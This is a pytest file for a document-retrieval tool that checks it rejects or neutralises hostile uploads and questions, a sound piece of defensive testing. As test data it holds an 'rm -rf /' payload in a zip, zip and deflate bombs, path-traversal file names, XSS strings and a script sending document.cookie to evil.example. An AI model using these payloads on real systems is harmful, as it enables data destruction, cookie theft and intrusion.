"""Hostile input through the ingest path, the engine and the renderers: clear messages, no harm."""

from __future__ import annotations

import asyncio
import io
import zlib
from functools import lru_cache

import pytest

from specrag.security.sanitize import check_question, safe_filename, safe_markdown
from specrag.types import SpecragError
from tests.support.docs import encrypt_pdf, make_docx, make_pdf, make_zip, rezip
from tests.support.env import make_settings

GOOD = b"Badge access: visitors must be escorted in the data centre at all times."


@lru_cache(maxsize=None)
def pdf_with_pages(n: int) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for _ in range(n):
        c.showPage()
    c.save()
    return buf.getvalue()


def pdf_deflate_bomb(inflated: int = 80_000_000) -> bytes:
    """One page whose content stream inflates to 80 MB (78 kB on disk)."""
    from pypdf import PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    stream = StreamObject()
    stream._data = zlib.compress(b"BT 72 720 Td (x) Tj ET " + b" " * inflated, 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HOSTILE = [
    # (upload name, bytes, expected reason after "<name>: ")
    ("huge.txt", b"lorem ipsum " * 100_000, "file too large (1.1 MB; the limit is 1 MB)"),
    ("invoice.pdf", b"MZ\x90\x00\x03" * 200,
     "not a PDF: content does not match the .pdf extension"),
    ("notes.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" * 50, "unsupported binary file (.txt)"),
    ("photo.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 20, "unsupported binary file (.md)"),
    ("report.docx", make_zip({"payload.sh": b"rm -rf /"}),
     "unsupported file type: zip archive (.docx) that is not a Word document"),
    ("bomb.docx", rezip(make_docx(), extra={"word/media/zeros.bin": bytes(25_000_000)}),
     "rejected as a possible zip bomb: expands to more than 20 MB"),
    ("locked.pdf", encrypt_pdf(make_pdf("Secret salaries"), "pw"),
     "encrypted PDF: remove the password and upload again"),
    ("broken.pdf", make_pdf("Broken file", "two")[:600], "corrupt or unreadable PDF"),
    ("pages.pdf", pdf_with_pages(2001), "too many pages (2001; the limit is 2000)"),
    ("inflate.pdf", pdf_deflate_bomb(), "no extractable text"),
    ("", b"text with no name", "file has no name"),
    ("..", b"text named dot-dot", "file has no name"),
]


@pytest.fixture
def small_limits(tmp_path):
    return make_settings(tmp_path / "data", **{"chunking.max_file_mb": 1})


def test_each_hostile_upload_fails_alone_with_a_clear_reason(small_limits, embedder):
    from specrag.ingest.ingestor import Ingestor
    from specrag.retrieval.retriever import Retriever

    ing = Ingestor(small_limits, embedder=embedder)
    ing.ingest_bytes([("access.txt", GOOD)], "ops")
    before = ing.store.count("ops")
    batch = [(n, d) for n, d, _ in HOSTILE] + [("disguised.txt", make_pdf("Real PDF body text"))]
    report = ing.ingest_bytes(batch, "ops")
    results = list(report.results)
    for (name, _, expected), result in zip(HOSTILE, results):
        assert result.status == "failed", name
        assert expected in result.reason and "\n" not in result.reason, (name, result.reason)
        assert "unexpected" not in result.reason and "Traceback" not in result.reason
    assert results[-1].status == "added"  # a PDF named .txt is read as the PDF it is
    docs = {d.source: d for d in ing.store.documents("ops")}
    assert set(docs) == {"access.txt", "disguised.txt"}
    assert ing.store.count("ops") == before + docs["disguised.txt"].chunks
    hits = Retriever(small_limits, embedder=embedder, store=ing.store).retrieve(
        "visitors escorted", 1, "ops").hits
    assert hits[0].chunk.source == "access.txt"  # what was there before is intact


def test_odd_file_names_are_names_never_paths(tmp_path, settings, embedder):
    from specrag.ingest.ingestor import Ingestor

    ing = Ingestor(settings, embedder=embedder)
    names = ["../../etc/passwd.txt", "..\\..\\Windows\\win.ini.txt", "/abs/notes.md",
             "a\x00b\x07.txt", "invoice\u202etxt.md", "x" * 3000 + ".txt",
             "<img src=x onerror=alert(1)>.txt", "\ud800lone-surrogate.txt", "emoji😀.md"]
    report = ing.ingest_bytes([(n, f"Odd name number {i}.".encode()) for i, n in
                               enumerate(names)], "odd")
    assert [r.status for r in report.results] == ["added"] * len(names)
    sources = [r.source for r in report.results]
    assert sources[:5] == ["etc/passwd.txt", "Windows/win.ini.txt", "abs/notes.md", "ab.txt",
                           "invoicetxt.md"]
    assert all(".." not in s.split("/") and not s.startswith("/") for s in sources)
    assert all(s.encode("utf-8") for s in sources)  # storable, printable
    assert not (tmp_path / "etc").exists() and not (tmp_path.parent / "etc" / "passwd.txt").exists()
    assert safe_filename("\x1b[31mred\u202e.txt") == "[31mred.txt"
    assert len(safe_filename("y" * 500)) == 120


def test_markup_in_documents_is_stored_as_text_and_rendered_inert(settings, embedder):
    from specrag.ingest.ingestor import Ingestor
    from specrag.retrieval.retriever import Retriever

    html_doc = (b"<html><body><h1>Policy</h1><p>Laptops are encrypted.</p>"
                b"<script>fetch('//evil.example/'+document.cookie)</script>"
                b"<img src=x onerror=alert(1)><p onclick=alert(2)>Click me</p></body></html>")
    text_doc = b"Plain text that quotes markup: <script>alert('x')</script> and [a](javascript:1)."
    ing = Ingestor(settings, embedder=embedder)
    ing.ingest_bytes([("policy.html", html_doc), ("quote.txt", text_doc)], "web")
    ret = Retriever(settings, embedder=embedder, store=ing.store)
    html_text = " ".join(h.chunk.text for h in ret.retrieve("laptops policy", 5, "web").hits
                         if h.chunk.source == "policy.html")
    assert "Laptops are encrypted" in html_text and "Click me" in html_text
    assert "fetch(" not in html_text and "onerror" not in html_text and "<" not in html_text
    quoted = next(h.chunk.text for h in ret.retrieve("markup", 5, "web").hits
                  if h.chunk.source == "quote.txt")
    assert "<script>" in quoted  # stored as the text it is ...
    shown = safe_markdown(quoted)  # ... and shown as text, never run or linked
    assert "<script>" not in shown and "&lt;script&gt;" in shown
    assert "](" not in shown


@pytest.mark.parametrize("question, match", [
    ("x" * 2001, "too long \\(2,001 characters; the limit is 2,000\\)"),
    ("what\x00is\x01this", "control characters"),
    ("\ud800 broken", "not valid Unicode"),
    (b"bytes", "must be text"),
])
def test_bad_questions_are_refused_before_any_model(tmp_path, question, match):
    from specrag.pipeline.engine import SpeculativeRAG
    from specrag.testing import FakeGenerator
    from tests.support.fakes import FakeRetriever

    with pytest.raises(SpecragError, match=match):
        check_question(question)
    draft = FakeGenerator()
    engine = SpeculativeRAG(make_settings(tmp_path), retriever=FakeRetriever(), draft=draft,
                            heavy=FakeGenerator())
    with pytest.raises(SpecragError, match=match):
        asyncio.run(engine.aask(question))
    assert draft.calls == []
    assert check_question("How many days of leave?\nAnd\tsick days?") is not None
